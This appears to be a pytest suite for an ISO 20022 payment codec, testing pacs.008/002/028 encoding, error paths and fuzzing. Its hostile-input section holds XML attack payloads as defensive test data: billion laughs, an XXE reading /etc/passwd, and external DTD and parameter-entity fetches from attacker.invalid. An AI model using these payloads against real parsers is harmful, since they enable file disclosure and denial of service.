"""ISO 20022 codec: golden pacs.008, round trips, element-path errors, hostile XML, fuzzing."""

from __future__ import annotations

import contextlib
from collections.abc import Callable
from datetime import date, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from switch.protocols import iso20022 as x
from switch.protocols.errors import CodecError

UETR = "eb6305c9-1f7f-49de-aed0-16487c27b42d"

CT = x.CreditTransfer(
    msg_id="MSG-1",
    created_at="2025-01-15T09:30:00Z",
    settlement_method="INDA",
    instr_id="INSTR-1",
    end_to_end_id="E2E-1",
    tx_id="TX-1",
    uetr=UETR,
    amount_minor=123456,
    currency="EUR",
    settlement_date="2025-01-15",
    charge_bearer="SHAR",
    debtor=x.Party(name="JOHN DOE & SONS", iban="BE68539007547034",
                   address_lines=("1 MAIN ST", "BRUSSELS")),
    debtor_agent_bic="BANKBEBB",
    creditor_agent_bic="BANKDEFFXXX",
    creditor=x.Party(name="JANE <ROE>", account_id="12345678"),
    remittance="INVOICE 123",
)

GOLDEN_PACS008 = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"><FIToFICstmrCdtTrf>'
    b"<GrpHdr><MsgId>MSG-1</MsgId><CreDtTm>2025-01-15T09:30:00Z</CreDtTm><NbOfTxs>1</NbOfTxs>"
    b"<SttlmInf><SttlmMtd>INDA</SttlmMtd></SttlmInf></GrpHdr>"
    b"<CdtTrfTxInf><PmtId><InstrId>INSTR-1</InstrId><EndToEndId>E2E-1</EndToEndId>"
    b"<TxId>TX-1</TxId><UETR>eb6305c9-1f7f-49de-aed0-16487c27b42d</UETR></PmtId>"
    b'<IntrBkSttlmAmt Ccy="EUR">1234.56</IntrBkSttlmAmt><IntrBkSttlmDt>2025-01-15</IntrBkSttlmDt>'
    b"<ChrgBr>SHAR</ChrgBr>"
    b"<Dbtr><Nm>JOHN DOE &amp; SONS</Nm><PstlAdr><AdrLine>1 MAIN ST</AdrLine>"
    b"<AdrLine>BRUSSELS</AdrLine></PstlAdr></Dbtr>"
    b"<DbtrAcct><Id><IBAN>BE68539007547034</IBAN></Id></DbtrAcct>"
    b"<DbtrAgt><FinInstnId><BICFI>BANKBEBB</BICFI></FinInstnId></DbtrAgt>"
    b"<CdtrAgt><FinInstnId><BICFI>BANKDEFFXXX</BICFI></FinInstnId></CdtrAgt>"
    b"<Cdtr><Nm>JANE &lt;ROE&gt;</Nm></Cdtr>"
    b"<CdtrAcct><Id><Othr><Id>12345678</Id></Othr></Id></CdtrAcct>"
    b"<RmtInf><Ustrd>INVOICE 123</Ustrd></RmtInf>"
    b"</CdtTrfTxInf></FIToFICstmrCdtTrf></Document>"
)

TX = "Document/FIToFICstmrCdtTrf/CdtTrfTxInf"


def test_pacs008_golden_bytes_and_round_trip() -> None:
    assert x.encode_pacs008(CT) == GOLDEN_PACS008
    assert x.decode_pacs008(GOLDEN_PACS008) == CT
    assert x.decode(GOLDEN_PACS008) == CT
    assert x.decode_pacs008(GOLDEN_PACS008.decode()) == CT  # str input too


def test_pacs008_from_another_producer() -> None:
    """Prefixed namespace, pretty printing, optional elements we ignore, no declaration."""
    doc = f"""
    <p:Document xmlns:p="{x.NS_PACS008}" xmlns:o="urn:other">
      <p:FIToFICstmrCdtTrf>
        <p:GrpHdr>
          <p:MsgId>M2</p:MsgId><p:CreDtTm>2025-01-15T09:30:00.123+01:00</p:CreDtTm>
          <p:NbOfTxs>1</p:NbOfTxs><p:SttlmInf><p:SttlmMtd>CLRG</p:SttlmMtd></p:SttlmInf>
        </p:GrpHdr>
        <p:CdtTrfTxInf>
          <p:PmtId><p:EndToEndId>E2</p:EndToEndId><p:UETR>{UETR}</p:UETR></p:PmtId>
          <p:PmtTpInf><p:InstrPrty>NORM</p:InstrPrty></p:PmtTpInf>
          <p:IntrBkSttlmAmt Ccy="JPY">1000000</p:IntrBkSttlmAmt>
          <p:IntrBkSttlmDt>2025-01-16</p:IntrBkSttlmDt>
          <p:ChrgBr>DEBT</p:ChrgBr>
          <o:Ignored>x</o:Ignored>
          <p:Dbtr><p:Nm>A</p:Nm></p:Dbtr>
          <p:DbtrAgt><p:FinInstnId><p:BICFI>BANKJPJT</p:BICFI></p:FinInstnId></p:DbtrAgt>
          <p:CdtrAgt><p:FinInstnId><p:BICFI>BANKUS33</p:BICFI></p:FinInstnId></p:CdtrAgt>
          <p:Cdtr><p:Nm>B</p:Nm></p:Cdtr>
        </p:CdtTrfTxInf>
      </p:FIToFICstmrCdtTrf>
    </p:Document>"""
    ct = x.decode_pacs008(doc.strip())
    assert ct.amount_minor == 1_000_000 and ct.currency == "JPY"
    assert ct.debtor == x.Party(name="A") and ct.remittance is None and ct.instr_id is None
    assert x.decode_pacs008(x.encode_pacs008(ct)) == ct


@pytest.mark.parametrize(
    ("minor", "ccy", "text"),
    [(12345, "USD", "123.45"), (5, "EUR", "0.05"), (12345, "JPY", "12345"),
     (12345, "BHD", "12.345"), (1, "KWD", "0.001"), (0, "KRW", "0"), (100, "CNY", "1.00")],
)
def test_amount_conversion_uses_currency_exponent(minor: int, ccy: str, text: str) -> None:
    assert x.format_amount(minor, ccy) == text
    assert x.parse_amount(text, ccy) == minor


def test_parse_amount_accepts_fewer_decimals_rejects_more() -> None:
    assert x.parse_amount("1.5", "USD") == 150
    assert x.parse_amount("7", "BHD") == 7000
    for bad, ccy in [("1.234", "USD"), ("1.5", "JPY"), ("1,50", "USD"), ("-1", "USD"),
                     (" 1", "USD"), ("1.", "USD"), ("", "USD"), ("1", "XXX"), ("1e3", "USD")]:
        with pytest.raises(CodecError):
            x.parse_amount(bad, ccy)


@pytest.mark.parametrize(
    ("old", "new", "path"),
    [
        (b'<IntrBkSttlmAmt Ccy="EUR">1234.56</IntrBkSttlmAmt>', b"", f"{TX}/IntrBkSttlmAmt"),
        (b'Ccy="EUR">1234.56', b'Ccy="EUR">1234.567', f"{TX}/IntrBkSttlmAmt"),
        (b' Ccy="EUR"', b"", f"{TX}/IntrBkSttlmAmt"),
        (b"<UETR>eb6305c9-1f7f-49de-aed0-16487c27b42d</UETR>", b"", f"{TX}/PmtId/UETR"),
        (b"eb6305c9-1f7f-49de", b"eb6305c9-1f7f-39de", f"{TX}/PmtId/UETR"),
        (b"<Nm>JOHN DOE &amp; SONS</Nm>", b"", f"{TX}/Dbtr/Nm"),
        (b"<Nm>JOHN DOE &amp; SONS</Nm>", b"<Nm></Nm>", f"{TX}/Dbtr/Nm"),
        (b"<BICFI>BANKBEBB</BICFI>", b"<BICFI>BANK</BICFI>", f"{TX}/DbtrAgt/FinInstnId/BICFI"),
        (b"<ChrgBr>SHAR</ChrgBr>", b"<ChrgBr>XXXX</ChrgBr>", f"{TX}/ChrgBr"),
        (b"<IntrBkSttlmDt>2025-01-15", b"<IntrBkSttlmDt>2025-02-30", f"{TX}/IntrBkSttlmDt"),
        (b"<NbOfTxs>1</NbOfTxs>", b"<NbOfTxs>2</NbOfTxs>",
         "Document/FIToFICstmrCdtTrf/GrpHdr/NbOfTxs"),
        (b"<SttlmMtd>INDA</SttlmMtd>", b"<SttlmMtd>COVE</SttlmMtd>",
         "Document/FIToFICstmrCdtTrf/GrpHdr/SttlmInf/SttlmMtd"),
        (b"<IBAN>BE68539007547034</IBAN>", b"", f"{TX}/DbtrAcct/Id/Othr/Id"),
        (b"pacs.008.001.08", b"pacs.008.001.09", "Document"),
    ],
)
def test_bad_pacs008_names_the_element(old: bytes, new: bytes, path: str) -> None:
    assert old in GOLDEN_PACS008
    with pytest.raises(CodecError) as exc:
        x.decode_pacs008(GOLDEN_PACS008.replace(old, new, 1))
    assert exc.value.path == path


def test_batch_of_two_transactions_is_refused() -> None:
    start = GOLDEN_PACS008.index(b"<CdtTrfTxInf>")
    end = GOLDEN_PACS008.index(b"</CdtTrfTxInf>") + len(b"</CdtTrfTxInf>")
    doubled = GOLDEN_PACS008[:end] + GOLDEN_PACS008[start:end] + GOLDEN_PACS008[end:]
    with pytest.raises(CodecError, match="single-transaction") as exc:
        x.decode_pacs008(doubled)
    assert exc.value.path == TX


def test_encode_validates_before_writing() -> None:
    bad = [
        ({"uetr": "EB6305C9-1F7F-49DE-AED0-16487C27B42D"}, f"{TX}/PmtId/UETR"),
        ({"currency": "XYZ"}, f"{TX}/IntrBkSttlmAmt"),
        ({"amount_minor": -5}, f"{TX}/IntrBkSttlmAmt"),
        ({"msg_id": "M" * 36}, "Document/FIToFICstmrCdtTrf/GrpHdr/MsgId"),
        ({"created_at": "2025-01-15"}, "Document/FIToFICstmrCdtTrf/GrpHdr/CreDtTm"),
        ({"remittance": "line\x00break"}, f"{TX}/RmtInf/Ustrd"),
        ({"debtor": x.Party(name="X", iban="BE68539007547034", account_id="1")},
         f"{TX}/DbtrAcct/Id"),
        ({"creditor": x.Party(name="X", iban="not an iban")}, f"{TX}/CdtrAcct/Id/IBAN"),
    ]
    fields = {f: getattr(CT, f) for f in CT.__struct_fields__}
    for change, path in bad:
        with pytest.raises(CodecError) as exc:
            x.encode_pacs008(x.CreditTransfer(**{**fields, **change}))  # type: ignore[arg-type]
        assert exc.value.path == path, change


# --------------------------------------------------------------------------- pacs.002 / .028


def test_pacs002_round_trip_for_every_status() -> None:
    for status in ("ACCP", "ACSP", "ACSC", "PDNG"):
        sr = x.status_report_for(CT, msg_id="S1", created_at="2025-01-15T09:30:01Z",
                                 status=status)  # type: ignore[arg-type]
        assert x.decode_pacs002(x.encode_pacs002(sr)) == sr
    for reason in x.ReasonCode:
        sr = x.status_report_for(CT, msg_id="S2", created_at="2025-01-15T09:30:01Z",
                                 status="RJCT", reason=reason, additional_info="see reason")
        raw = x.encode_pacs002(sr)
        assert f"<Cd>{reason}</Cd>".encode() in raw
        assert x.decode(raw) == sr
    assert sr.orgnl_uetr == CT.uetr and sr.orgnl_end_to_end_id == CT.end_to_end_id


def test_pacs002_golden_bytes() -> None:
    sr = x.StatusReport(msg_id="S1", created_at="2025-01-15T09:30:01Z", orgnl_msg_id="MSG-1",
                        orgnl_end_to_end_id="E2E-1", orgnl_uetr=UETR, status="RJCT",
                        reason="AM04")
    assert x.encode_pacs002(sr) == (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.002.001.10"><FIToFIPmtStsRpt>'
        b"<GrpHdr><MsgId>S1</MsgId><CreDtTm>2025-01-15T09:30:01Z</CreDtTm></GrpHdr>"
        b"<OrgnlGrpInfAndSts><OrgnlMsgId>MSG-1</OrgnlMsgId>"
        b"<OrgnlMsgNmId>pacs.008.001.08</OrgnlMsgNmId></OrgnlGrpInfAndSts>"
        b"<TxInfAndSts><OrgnlEndToEndId>E2E-1</OrgnlEndToEndId>"
        b"<OrgnlUETR>eb6305c9-1f7f-49de-aed0-16487c27b42d</OrgnlUETR><TxSts>RJCT</TxSts>"
        b"<StsRsnInf><Rsn><Cd>AM04</Cd></Rsn></StsRsnInf></TxInfAndSts>"
        b"</FIToFIPmtStsRpt></Document>"
    )


def test_pacs002_rules() -> None:
    with pytest.raises(CodecError, match="needs a reason") as exc:
        x.encode_pacs002(x.status_report_for(CT, msg_id="S", created_at="2025-01-15T09:30:01Z",
                                             status="RJCT"))
    assert exc.value.path.endswith("TxInfAndSts/StsRsnInf/Rsn/Cd")
    good = x.encode_pacs002(x.status_report_for(
        CT, msg_id="S", created_at="2025-01-15T09:30:01Z", status="ACSC"))
    with pytest.raises(CodecError) as exc:
        x.decode_pacs002(good.replace(b"ACSC", b"DONE"))
    assert exc.value.path == "Document/FIToFIPmtStsRpt/TxInfAndSts/TxSts"
    with pytest.raises(CodecError) as exc:
        x.decode_pacs002(good.replace(b"<OrgnlMsgId>MSG-1</OrgnlMsgId>", b""))
    assert exc.value.path == "Document/FIToFIPmtStsRpt/OrgnlGrpInfAndSts/OrgnlMsgId"
    with pytest.raises(CodecError):
        x.decode_pacs008(good)  # right XML, wrong message


def test_pacs028_round_trip() -> None:
    rq = x.status_request_for(CT, msg_id="Q1", created_at="2025-01-15T09:32:00Z")
    raw = x.encode_pacs028(rq)
    assert x.NS_PACS028.encode() in raw
    assert x.decode_pacs028(raw) == rq and x.decode(raw) == rq
    with pytest.raises(CodecError) as exc:
        x.decode_pacs028(raw.replace(b"<OrgnlEndToEndId>E2E-1</OrgnlEndToEndId>", b""))
    assert exc.value.path == "Document/FIToFIPmtStsReq/TxInf/OrgnlEndToEndId"


# --------------------------------------------------------------------------- hostile input

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">&lol9;</Document>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08">&xxe;</Document>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.invalid/evil.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pacs.008.001.08"/>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
@pytest.mark.parametrize("decoder", [x.decode, x.decode_pacs008, x.decode_pacs002,
                                     x.decode_pacs028])
def test_hostile_xml_is_refused(doc: bytes, decoder: Callable[[bytes], object]) -> None:
    with pytest.raises(CodecError, match="DTDs are forbidden") as exc:
        decoder(doc)
    assert exc.value.path == "Document"


def test_undefined_entity_and_oversize_are_refused() -> None:
    with pytest.raises(CodecError, match="not well-formed"):
        x.decode(b"<Document>&xxe;</Document>")
    huge = GOLDEN_PACS008.replace(b"INVOICE 123", b"A" * x.MAX_XML_BYTES)
    with pytest.raises(CodecError, match=f"MAX_XML_BYTES={x.MAX_XML_BYTES}"):
        x.decode_pacs008(huge)
    with pytest.raises(CodecError, match="MAX_XML_BYTES"):
        x.decode_pacs008(huge.decode())


def test_deep_nesting_is_bounded() -> None:
    depth = 20_000
    doc = (f'<Document xmlns="{x.NS_PACS008}"><FIToFICstmrCdtTrf>' + "<a>" * depth
           + "</a>" * depth + "</FIToFICstmrCdtTrf></Document>")
    with pytest.raises(CodecError):
        x.decode(doc)


# --------------------------------------------------------------------------- fuzzing

SEEDS = [
    GOLDEN_PACS008,
    x.encode_pacs002(x.status_report_for(CT, msg_id="S", created_at="2025-01-15T09:30:01Z",
                                         status="RJCT", reason="AC01")),
    x.encode_pacs028(x.status_request_for(CT, msg_id="Q", created_at="2025-01-15T09:32:00Z")),
]


@st.composite
def mutated(draw: st.DrawFn, seeds: list[bytes]) -> bytes:
    data = bytearray(draw(st.sampled_from(seeds)))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["set", "insert", "delete", "truncate"]))
        pos = draw(st.integers(0, max(len(data) - 1, 0)))
        if op == "set" and data:
            data[pos] = draw(st.sampled_from(b"<>/&;\"'=:x0.9 \x00\xc3\xff"))
        elif op == "insert":
            data[pos:pos] = draw(st.sampled_from(
                [b"<!DOCTYPE a>", b"&amp;", b"<x>", b"</x>", b"\xef\xbb\xbf", b"]]>", b"<![CDATA["]
            ) | st.binary(min_size=1, max_size=6))
        elif op == "delete":
            del data[pos : pos + draw(st.integers(1, 12))]
        else:
            del data[pos:]
    return bytes(data)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400))
def test_fuzz_random_bytes_raise_only_codec_error(data: bytes) -> None:
    for decoder in (x.decode, x.decode_pacs008):
        with contextlib.suppress(CodecError):
            decoder(data)


@settings(max_examples=300, deadline=None)
@given(mutated(SEEDS))
def test_fuzz_mutated_documents_raise_only_codec_error(data: bytes) -> None:
    try:
        msg = x.decode(data)
    except CodecError:
        return
    # Anything accepted is valid: it re-encodes and decodes to the same value.
    if isinstance(msg, x.CreditTransfer):
        assert x.decode(x.encode_pacs008(msg)) == msg
    elif isinstance(msg, x.StatusReport):
        assert x.decode(x.encode_pacs002(msg)) == msg
    else:
        assert x.decode(x.encode_pacs028(msg)) == msg


_TEXT = st.text(
    st.characters(codec="utf-8", categories=["L", "N", "P", "S"], include_characters=" "),
    min_size=1,
    max_size=35,
)
_BIC = st.from_regex(r"\A[A-Z0-9]{4}[A-Z]{2}[A-Z0-9]{2}([A-Z0-9]{3})?\Z")
_UETR = st.uuids(version=4).map(str)
_PARTY = st.builds(
    x.Party,
    name=_TEXT,
    iban=st.none() | st.from_regex(r"\A[A-Z]{2}[0-9]{2}[A-Z0-9]{11,30}\Z"),
    address_lines=st.lists(_TEXT, max_size=3).map(tuple),
)


@st.composite
def credit_transfers(draw: st.DrawFn) -> x.CreditTransfer:
    currency = draw(st.sampled_from(sorted(x.CURRENCY_EXPONENTS)))
    return x.CreditTransfer(
        msg_id=draw(_TEXT),
        created_at=draw(st.datetimes(datetime(2000, 1, 1), datetime(2099, 1, 1)))
        .isoformat(timespec="seconds") + "Z",
        settlement_method=draw(st.sampled_from(["INDA", "INGA", "CLRG"])),
        instr_id=draw(st.none() | _TEXT), end_to_end_id=draw(_TEXT),
        tx_id=draw(st.none() | _TEXT), uetr=draw(_UETR),
        amount_minor=draw(st.integers(0, 10**15)), currency=currency,
        settlement_date=draw(st.dates(date(2000, 1, 1), date(2099, 12, 31))).isoformat(),
        charge_bearer=draw(st.sampled_from(["DEBT", "CRED", "SHAR", "SLEV"])),
        debtor=draw(_PARTY), debtor_agent_bic=draw(_BIC), creditor_agent_bic=draw(_BIC),
        creditor=draw(_PARTY), remittance=draw(st.none() | _TEXT),
    )  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(credit_transfers())
def test_round_trip_any_valid_credit_transfer(ct: x.CreditTransfer) -> None:
    assert x.decode_pacs008(x.encode_pacs008(ct)) == ct
